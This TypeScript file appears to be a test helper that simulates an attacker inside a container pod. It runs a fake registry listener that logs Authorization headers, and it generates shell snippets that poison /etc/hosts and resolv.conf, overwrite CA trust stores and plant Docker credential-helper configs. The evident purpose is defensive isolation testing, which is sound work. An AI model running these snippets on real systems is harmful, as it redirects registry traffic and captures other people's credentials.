/** Who wants the registry's password: where traffic of the registry's name can be led to, and the shell that tries to lead it there. */
import { type ChildProcess, spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { podNetwork } from '../../../local/addresses';
import { inNodeNetwork, Opening } from '../node-network';
import { makeCertificate } from '../tls-registry';

/** Where pods find the node: the registry listens at another of its addresses. */
const ADDRESS = podNetwork.replace(/0\/24$/, '1');

/** What came to it: a connection, a request with or without a header, a question for a name. */
interface Came {
  readonly came: 'listening' | 'connection' | 'request' | 'question';
  readonly authorization?: string;
}

export class Attacker {
  readonly url: string;
  private readonly folder = mkdtempSync(join(tmpdir(), 'csb-attacker-'));
  private readonly opening: Opening;
  private readonly listener: ChildProcess;
  private said = '';

  /** @param port - where whoever is led here calls: the registry's */
  constructor(node: number, port: number) {
    this.url = `https://${ADDRESS}:${port}/v2/`;
    makeCertificate(this.folder);
    this.opening = new Opening(node, ['-d', ADDRESS]);
    this.opening.close();
    this.opening.open();
    const program = [
      process.execPath,
      '--require',
      './cli/require.cjs',
      join(__dirname, 'listener.ts'),
      ADDRESS,
      String(port),
      this.folder,
    ];
    const [command, words] = inNodeNetwork(node, program);
    this.listener = spawn(command, words, { stdio: ['ignore', 'pipe', 'inherit'] });
    this.listener.stdout?.on('data', (data: Buffer) => (this.said += data.toString()));
  }

  /** All that came since it was asked last. It is said on a pipe, which nobody has read while a command was waited for: a second is for that. */
  async came(): Promise<readonly Came[]> {
    await new Promise((resolve) => setTimeout(resolve, 1000));
    const whole = this.said.lastIndexOf('\n') + 1;
    const lines = this.said.slice(0, whole).split('\n').slice(0, -1);
    this.said = this.said.slice(whole);
    return lines.map((line) => JSON.parse(line) as Came);
  }

  stop(): void {
    this.listener.kill();
    this.opening.close();
    rmSync(this.folder, { recursive: true });
  }

  /** Certificates, configuration and credential helpers wherever a program that speaks to registries may look, in all that can be written. */
  plant(registry: string): string {
    const configuration = { auths: {}, credHelpers: { [registry]: 'attacker' }, HttpHeaders: { 'X-Attacker': 'here' } };
    return `
authority='${readFileSync(join(this.folder, 'cert.pem'), 'utf8')}'
write() { mkdir -p "\${1%/*}" 2>/dev/null && printf '%s\\n' "$2" >"$1" 2>/dev/null || true; }
for home in "$HOME" /root /tekton/home /workspace /work; do
  write "$home/.docker/config.json" '${JSON.stringify(configuration)}'
  write "$home/.config/containers/certs.d/${registry}/ca.crt" "$authority"
done
for folder in /etc/docker/certs.d /etc/containers/certs.d; do write "$folder/${registry}/ca.crt" "$authority"; done
for file in /registry-authority/ca.crt /etc/ssl/certs/attacker.pem /etc/ssl/certs/ca-certificates.crt /handed/config.json; do
  write "$file" "$authority"
done
`;
  }

  /** Leads the registry's name here, by the hosts file that all containers of a pod have. */
  byHosts(registry: string): string {
    return `{ printf '%s %s\\n' ${ADDRESS} ${registry.replace(/:.*/, '')}; cat /etc/hosts; } >/tmp/hosts
cat /tmp/hosts >/etc/hosts || true\n`;
  }

  /** The same, by their name server. */
  byNameServer(): string {
    return `echo 'nameserver ${ADDRESS}' >/etc/resolv.conf || true\n`;
  }
}
